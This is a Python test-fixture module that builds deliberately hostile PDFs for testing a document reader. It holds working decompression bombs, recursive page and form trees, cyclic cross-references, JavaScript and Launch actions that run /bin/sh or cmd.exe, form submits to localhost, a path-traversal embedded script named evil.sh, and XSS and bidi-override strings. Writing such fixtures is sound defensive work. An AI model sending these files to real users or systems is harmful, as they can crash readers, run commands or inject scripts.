"""PDFs made to harm whoever reads them, byte by byte: no library would write these."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Sequence

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = b"BT /F1 12 Tf 72 700 Td (The Panel notes the report on moorings.) Tj ET"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object with its length."""
    head = b"<</Length %d%s>>\nstream\n" % (len(content), entries)
    return head + content + b"\nendstream"


def page(entries: bytes = b"", resources: bytes = b"") -> bytes:
    """Return a page with the content of object 4 and the font of object 5."""
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>%s>>%s>>" % (resources, entries)
    )


def made(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of ``objects``, numbered from 1; the first is the catalogue."""
    out, starts = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    return bytes(
        out
        + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        + table
        + b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer)
        + b"startxref\n%d\n%%%%EOF\n" % len(out)
    )


def plain(
    words: bytes = _WORDS, catalog: bytes = b"", more: Sequence[bytes] = (), trailer: bytes = b""
) -> bytes:
    """Return a PDF of one page; ``catalog`` are more entries, ``more`` objects from 6."""
    root = CATALOG[:-2] + catalog + b">>"
    return made(root, PAGES, page(), stream(words), _FONT, *more, trailer=trailer)


def _bomb(size: int, turns: int, what: bytes) -> bytes:
    """Return some ``size`` bytes of ``what``, deflated ``turns`` times."""
    block = what * (1_000_000 // len(what))
    packer = zlib.compressobj(9)
    head = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the same bytes stand for the same block, as often as one likes.
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    content = head + again * (size // len(block) - 1) + packer.flush()
    for _ in range(turns - 1):
        content = zlib.compress(content, 9)
    return content


def content_bomb() -> bytes:
    """A page whose drawing is two gigabytes of blanks in a few hundred bytes."""
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    return made(CATALOG, PAGES, page(), stream(_bomb(2_000_000_000, 2, b" "), filters), _FONT)


def path_bomb() -> bytes:
    """A page of some ten million strokes."""
    drawing = _bomb(100_000_000, 2, b"0 0 m 9 9 l S\n")
    return made(
        CATALOG, PAGES, page(), stream(drawing, b"/Filter[/FlateDecode/FlateDecode]"), _FONT
    )


def picture_bomb() -> bytes:
    """A picture of 60,000 by 60,000 points in full colour: ten gigabytes."""
    size = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
    picture = _bomb(500_000_000, 2, b"\0")
    filters = b"/ColorSpace/DeviceRGB/Filter[/FlateDecode/FlateDecode]"
    return made(
        CATALOG, PAGES, page(resources=b"/XObject<</I 6 0 R>>"),
        stream(_WORDS + b" q 500 0 0 500 40 40 cm /I Do Q"), _FONT, stream(picture, size + filters),
    )  # fmt: skip


def form_within_itself() -> bytes:
    """A form that draws itself, and two that draw each other."""
    forms = [
        stream(b"/A Do /B Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 8 0 R"),
        stream(b"/A Do /A Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 8 0 R"),
        b"<</XObject<</A 6 0 R/B 7 0 R>>>>",
    ]
    return made(
        CATALOG, PAGES, page(resources=b"/XObject<</A 6 0 R>>"), stream(_WORDS + b" /A Do"), _FONT,
        *forms,
    )  # fmt: skip


def laughing_forms() -> bytes:
    """Thirty forms, each drawing the next ten times."""
    forms = [
        stream(
            b"/N Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N %d 0 R>>>>" % next_,
        )
        for next_ in range(7, 37)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return made(
        CATALOG, PAGES, page(resources=b"/XObject<</N 6 0 R>>"), stream(_WORDS + b" /N Do"), _FONT,
        *forms, last,
    )  # fmt: skip


def pages_within_themselves() -> bytes:
    """A page tree whose branch is its own child."""
    tree = b"<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 9>>"
    return made(CATALOG, tree, page(), stream(_WORDS), _FONT)


def million_pages() -> bytes:
    """A page tree of seven objects: six levels of ten times the same, a million pages."""
    levels = [
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % below * 10, 10**power)
        for power, below in ((6, 6), (5, 7), (4, 8), (3, 9), (2, 10), (1, 3))
    ]
    first, *rest = levels
    return made(CATALOG, first, page(), stream(_WORDS), _FONT, *rest)


def long_page_list() -> bytes:
    """One list of a million times the same page."""
    tree = b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"3 0 R " * 1_000_000)
    return made(CATALOG, tree, page(), stream(_WORDS), _FONT)


def deep_page_tree() -> bytes:
    """A page tree a hundred thousand levels deep."""
    depth = 100_000
    tree = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (at + 7) for at in range(depth)]
    tree[-1] = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    first = b"<</Type/Pages/Kids[6 0 R]/Count 1>>"
    return made(CATALOG, first, page(), stream(_WORDS), _FONT, *tree)


def many_pages_claimed() -> bytes:
    """One page that says it is two thousand million."""
    tree = b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"
    return made(CATALOG, tree, page(), stream(_WORDS), _FONT)


def nested_arrays() -> bytes:
    """Arrays within arrays, half a million deep, where bookmarks should be."""
    deep = b"[" * 500_000 + b"]" * 500_000
    return plain(catalog=b"/Outlines 6 0 R/Names 6 0 R", more=[deep])


def outline_in_circles() -> bytes:
    """Bookmarks that lead back to themselves, and destinations that name each other."""
    first = b"<</Title(A)/Parent 6 0 R/Next 8 0 R/First 7 0 R/Dest(x)>>"
    second = b"<</Title(B)/Parent 6 0 R/Next 7 0 R/First 6 0 R/Dest 8 0 R>>"
    root = b"<</Type/Outlines/First 7 0 R/Last 8 0 R/Count 99999999>>"
    names = b"<</Dests<</Kids[9 0 R 9 0 R]>>>>"
    tree = b"<</Kids[9 0 R 9 0 R]/Names[(x)(x)]>>"
    return plain(catalog=b"/Outlines 6 0 R/Names 10 0 R", more=[root, first, second, tree, names])


def labels_in_circles() -> bytes:
    """Page labels without end, with numbers far out of range."""
    tree = b"<</Kids[6 0 R 6 0 R]/Nums[0 <</S/a/St 999999999999/P(%s)>>]>>" % (b"p" * 100_000)
    return plain(catalog=b"/PageLabels 6 0 R", more=[tree])


def length_of_itself() -> bytes:
    """A stream whose length is that same stream, and a reference to itself."""
    return made(
        CATALOG, PAGES, page(), b"<</Length 4 0 R>>\nstream\n%s\nendstream" % _WORDS, b"5 0 R"
    )


def cross_reference_in_circles() -> bytes:
    """Cross-reference tables that name each other as the one before."""
    whole = plain()
    at = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def vast_page() -> bytes:
    """A page of ten thousand kilometres, and words on it."""
    return plain().replace(b"[0 0 595 842]", b"[0 0 1e10 1e10]")


def page_without_size() -> bytes:
    """A page whose corners fall together, or are no numbers at all."""
    return plain().replace(b"[0 0 595 842]", b"[9 9 9 9]/CropBox[(a) null 1 R]")


def many_words() -> bytes:
    """A page of ten million letters in a few kilobytes."""
    drawing = _bomb(14_000_000, 1, b"BT /F1 1 Tf 9 9 Td (aaaa aaaa) Tj ET\n")
    return made(CATALOG, PAGES, page(), stream(drawing, b"/Filter/FlateDecode"), _FONT)


def scripts(target: str = "/tmp/minutebook-was-here") -> bytes:
    """JavaScript, launching a program, sending a form and opening files, at every occasion."""
    path = target.encode()
    script = b"(app.launchURL('http://127.0.0.1:9/'); this.saveAs('%s');)" % path
    acts = (
        b"[<</S/JavaScript/JS%s>>]" % script,
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c echo > %s)>>>>" % path,
    )
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/Rect[0 0 99 99]"
        b"/A<</S/SubmitForm/F<</FS/URL/F(http://127.0.0.1:9/)>>>>/AA<</PO 6 0 R/E 7 0 R>>>>"
    )
    root = b"/OpenAction 6 0 R/AA<</WC 6 0 R/DS 7 0 R>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"
    whole = plain(
        catalog=root + b"/AcroForm<</Fields[8 0 R]/XFA 9 0 R>>",
        more=[b"<</S/JavaScript/JS%s/Next%s>>" % (script, acts[0]), acts[1], field,
              stream(b"<xdp:xdp><script>xfa.host.gotoURL('http://127.0.0.1:9/')</script></xdp:xdp>")],
    )  # fmt: skip
    return whole.replace(b"/Contents 4 0 R", b"/Contents 4 0 R/Annots[8 0 R]/AA<</O 6 0 R>>")


def attachments() -> bytes:
    """Files within the file, with names that climb out of any folder."""
    spec = b"<</Type/Filespec/F(../../../evil.sh)/UF(..\\\\evil.sh)/EF<</F 7 0 R>>>>"
    tree = b"/Names<</EmbeddedFiles<</Names[(../../evil.sh) 6 0 R]>>>>"
    script = stream(b"#!/bin/sh\ntouch here\n", b"/Type/EmbeddedFile")
    return plain(catalog=tree + b"/AF[6 0 R]", more=[spec, script])


def odd_words() -> bytes:
    """HTML, control characters and marks that turn text round, as words and as title."""
    title = "\u202eexe.fdp\u202c<script>alert(1)</script>\x07\u0000<img src=x onerror=alert(1)>"
    written = b"\xfe\xff" + title.encode("utf-16-be")
    escaped = written.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    words = (
        b"BT /F1 12 Tf 72 700 Td (<b onclick=alert\\(1\\)>x</b> \\007\\000 [a](javascript:b)) Tj ET"
    )
    return plain(words, more=[b"<</Title(%s)>>" % escaped], trailer=b"/Info 6 0 R")


HARMFUL: dict[str, Callable[[], bytes]] = {
    one.__name__: one
    for one in (
        content_bomb, path_bomb, picture_bomb, form_within_itself, laughing_forms,
        pages_within_themselves, million_pages, long_page_list, deep_page_tree,
        many_pages_claimed, nested_arrays, outline_in_circles, labels_in_circles,
        length_of_itself, cross_reference_in_circles, vast_page, page_without_size, many_words,
        scripts, attachments, odd_words,
    )
}  # fmt: skip
